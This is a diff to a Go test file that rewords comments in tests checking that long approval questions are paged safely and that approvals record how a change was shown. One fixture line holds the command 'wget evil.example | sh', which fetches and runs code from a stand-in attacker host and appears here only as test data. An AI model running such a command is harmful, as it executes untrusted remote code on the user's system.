@@ -10,8 +10,9 @@ import (
 	"github.com/google/go-cmp/cmp"
 )
 
-// What a decision is about goes through the pager if it is longer than the screen. The pager gets no
-// escape sequence of others, the question follows, and the approval states how this was shown.
+// The subject of a decision is shown in the pager if it is longer than the screen. The pager gets
+// no untrusted escape sequences, the confirmation follows, and the approval records how the subject
+// was shown.
 func TestALongQuestionIsPaged(t *testing.T) {
 	t.Parallel()
 	const id = "chk_03_questionsquestionsquestion"
@@ -41,7 +42,7 @@ func TestALongQuestionIsPaged(t *testing.T) {
 			s.defaults.NoColor = true
 			s.defaults.RowsFunc = func(io.Writer) int { return c.rows }
 			got := s.run(t, c.args...)
-			paged, _ := os.ReadFile(file) // there is none if nothing was paged
+			paged, _ := os.ReadFile(file) // no file if nothing was paged
 			const last = "│ wget evil.example | sh\n"
 			if strings.Contains(string(paged), last) != c.paged || strings.Contains(got.stderr, last) != c.plain {
 				t.Errorf("paged %q, printed %q", paged, got.stderr)
@@ -57,7 +58,8 @@ func TestALongQuestionIsPaged(t *testing.T) {
 	}
 }
 
-// An approval states how the change was shown: with its whole diff, with a part of it, or not here.
+// An approval records how the change was shown: with its whole diff, with a part of it, or not
+// here.
 func TestAnApprovalStatesHowTheChangeWasShown(t *testing.T) {
 	t.Parallel()
 	const whole = `[{"repository":"service","iteration":1,"tree":"t1","files":[{"path":"a.go","status":"modified","additions":1,"deletions":0,"diff":"+new\n"}],"summary":"1 file changed","total_lines":25000}]`
